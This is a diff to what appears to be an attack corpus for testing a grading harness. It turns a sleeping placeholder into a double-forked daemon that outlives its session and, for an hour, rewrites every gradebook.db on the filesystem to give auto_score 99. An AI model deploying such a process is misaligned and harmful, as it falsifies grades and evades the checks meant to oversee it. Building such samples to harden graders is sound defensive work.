@@ -5,15 +5,28 @@ from attacks.corpus import ALL, attack
 
 @attack("graded", ALL)
 def leaves_a_daemon():
-    """Forks twice, in a session of its own, to change marks when grading is over."""
+    """Forks twice, in a session of its own, to write 99 points into every gradebook for an hour."""
     import os
+    import sqlite3
     import time
+
+    def raise_marks():
+        for folder, folders, names in os.walk("/"):
+            folders[:] = [name for name in folders if name not in ("proc", "sys", "usr")]
+            if "gradebook.db" in names:
+                with sqlite3.connect(f"{folder}/gradebook.db", timeout=1) as database:
+                    database.execute("UPDATE grade SET auto_score = 99")
 
     if os.fork() == 0:
         os.setsid()
         if os.fork() == 0:
             os.closerange(0, 256)
-            time.sleep(7777)
+            for _ in range(3600):
+                try:
+                    raise_marks()
+                except sqlite3.Error:
+                    pass
+                time.sleep(1)
         os._exit(0)
 
 
